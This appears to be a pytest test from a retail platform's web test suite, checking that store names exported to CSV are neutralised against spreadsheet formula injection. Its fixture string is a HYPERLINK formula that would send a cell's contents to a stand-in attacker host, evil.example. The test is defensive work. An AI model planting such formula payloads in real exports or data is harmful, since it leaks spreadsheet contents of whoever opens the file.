"""Finding 7 of the security review: the console's and the API's CSV exports neutralise
formula-leading cells (a store named ``=HYPERLINK(...)`` is exported as text)."""

from __future__ import annotations

import csv
import io

from omniretail.platform.engine import published_path
from tests.web.seed import make_seed, write_snapshot

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_store_names_are_exported_as_text(admin_console, home) -> None:
    seed = make_seed()
    seed.stores[0]["name"] = EVIL
    seed.stores[1]["name"] = "@SUM(1)"
    write_snapshot(published_path(), seed)
    r = admin_console.get("/api/v1/overview/stores.csv?days=0")
    assert r.status_code == 200, r.text
    names = {row["名称"] for row in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))}
    assert "'" + EVIL in names
    assert "'@SUM(1)" in names
    assert not any(n.startswith(("=", "@", "+", "-")) for n in names)
